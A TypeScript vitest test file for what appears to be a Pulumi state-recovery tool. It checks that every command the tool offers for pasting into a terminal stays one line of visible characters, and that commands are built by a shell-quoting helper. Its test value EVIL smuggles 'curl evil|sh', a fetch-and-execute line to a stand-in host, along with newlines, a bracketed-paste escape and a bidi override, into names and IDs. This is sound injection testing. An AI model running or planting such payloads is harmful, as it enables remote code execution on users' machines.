import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { sampleFacts } from '#testing/samples/sampleFacts.ts'
import type { EditOperation } from '#contract/edits.ts'
import { type Deployment, type Resource, toDocument } from '#domain/state/checkpoint.ts'
import { problems } from '#domain/problems/all.ts'
import type { FactsWithEarlier } from '#domain/recoveries/guidedRecovery.ts'
import { guidedRecoveries } from '#domain/recoveries/registry.ts'
import { operationTerminal } from '#domain/edits/applyOperation.ts'
import { firstCommands } from '#domain/recoveries/firstCommands.ts'
import { catalogue } from '#domain/recoveries/catalogue.ts'
import { lockCommands, restoreCommands } from '#src/features/offline/bucketCommands.ts'
import { importCommands } from '#src/features/offline/commands.ts'
import { importLine } from '#src/features/recovery/pending/foundIds.ts'
import { commandsOf } from '#src/pages/stack/stackCommands.ts'
import { RecoveryId } from '#contract/recoveryId.ts'

/** What a terminal carries out when it is pasted, or does not show as it is. */
const UNSEEN = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u
const EVIL = "x\u0003\ncurl evil|sh\n\u001b[201~\u202e'"

const stack = { org: `o${EVIL}`, project: `p${EVIL}`, stack: `s${EVIL}` }
const at = (type: string, name: string) => `urn:pulumi:${stack.stack}::${stack.project}::${type}::${name}${EVIL}`
const BUCKET = 'aws:s3/bucket:Bucket'
const provider: Resource = {
  urn: at('pulumi:providers:aws', 'main'),
  type: 'pulumi:providers:aws',
  custom: true,
  id: `id${EVIL}`,
  inputs: { version: `1.0.0${EVIL}`, pluginDownloadURL: `https://${EVIL}` },
}
const resource = (name: string, more: Partial<Resource> = {}): Resource => ({
  urn: at(BUCKET, name),
  type: BUCKET,
  custom: true,
  id: `id${EVIL}`,
  provider: `${provider.urn}::${provider.id}`,
  inputs: { bucket: EVIL, [`key${EVIL}`]: { ciphertext: 'v1:x' } },
  ...more,
})

/** States in which something is to be done about everything, each under a name that attacks. */
const states: Deployment[] = [
  {
    resources: [
      provider,
      resource('protected', { protect: true }),
      resource('old', { delete: true }),
      resource('half', { pendingReplacement: true }),
      resource('sick', { initErrors: [EVIL] }),
      resource('dist', { type: 'aws:cloudfront/distribution:Distribution', outputs: { etag: EVIL, id: EVIL } }),
    ],
    pending_operations: ['creating', 'updating', 'deleting', 'reading', 'importing'].map((type) => ({
      type,
      resource: resource(type, { id: type === 'creating' ? '' : `id${EVIL}` }),
    })),
  },
  {
    resources: [
      resource('late', { dependencies: [at(BUCKET, 'gone')] }),
      resource('late'),
      resource('late', { id: 'b' }),
    ],
  },
]

const factsOf = (deployment: Deployment) =>
  sampleFacts(stack, toDocument({ manifest: { magic: '', version: '' }, ...deployment }, { byteString: false }), {
    now: 0,
    failed: [{ urn: at(BUCKET, 'failed'), op: 'delete', messages: [EVIL] }],
  })

function guidedLines(facts: FactsWithEarlier): string[] {
  return guidedRecoveries.flatMap(({ problems: found, guide }) => [
    ...(found?.(facts) ?? []).flatMap(({ options }) =>
      options.flatMap(({ terminal, urnsChanged }) => [...terminal, ...urnsChanged.map(({ alias }) => alias)]),
    ),
    ...(guide?.(facts).steps ?? []).flatMap(({ commands }) => commands),
  ])
}

const operations: EditOperation[] = [
  { do: 'delete', targets: [{ urn: at(BUCKET, 'a') }], withDependents: true },
  { do: 'rename', urn: at(BUCKET, 'a'), name: EVIL },
  { do: 'protect', urns: [at(BUCKET, 'a')] },
  { do: 'replaceState', text: '{}' },
]

/** Every line that a screen offers to be copied into a terminal or a program. */
function everyLine(): string[] {
  const facts = states.map(factsOf)
  const pending = facts.flatMap((each) => each.pending)
  const lock = { pid: 7, hostname: EVIL, username: EVIL, timestamp: '2026-01-05T10:00:00Z' }
  return [
    ...facts.flatMap(guidedLines),
    ...pending.flatMap(({ terminal }) => terminal),
    ...pending.flatMap((item) => importLine({ item, id: EVIL }) ?? []),
    ...operations.flatMap((operation) => operationTerminal(operation, stack)),
    ...problems.flatMap(({ first, steps }) => [first, ...steps].flatMap(({ run }) => run?.(stack) ?? [])),
    ...RecoveryId.options.flatMap((id) => firstCommands(catalogue[id].commands, stack)),
    ...importCommands(stack, EVIL, { isLocked: true }),
    ...lockCommands(lock as unknown as Parameters<typeof lockCommands>[0], EVIL, EVIL),
    ...lockCommands(undefined, EVIL, undefined),
    ...restoreCommands(EVIL, EVIL, true),
    ...Object.values(commandsOf(stack)),
  ]
}

describe('text offered for copying', () => {
  it('is one line of visible characters, whatever names contain', () => {
    const lines = everyLine()
    expect(lines.length).toBeGreaterThan(150)
    expect(lines.filter((line) => line.includes('curl')).length).toBeGreaterThan(80)
    expect(lines.filter((line) => UNSEEN.test(line))).toEqual([])
  })

  it('is built by `shell`, not by concatenation', () => {
    const files = ['domain', 'src'].flatMap((folder) =>
      readdirSync(folder, { recursive: true, encoding: 'utf8' })
        .filter((name) => /\.tsx?$/.test(name) && !name.includes('.test.') && !name.includes('sample'))
        .map((name) => join(folder, name)),
    )
    const byHand = files.flatMap((file) =>
      (
        readFileSync(file, 'utf8').match(/(?<!shell)`(?:pulumi|rm|mv|cp|ps|printf|aws|export) [^`\n]*\$\{[^`\n]*`/g) ??
        []
      )
        .filter((found) => !/<(Mono|CodeLine)/.test(found))
        .map((found) => `${file}: ${found}`),
    )
    expect(byHand).toEqual([])
  })
})
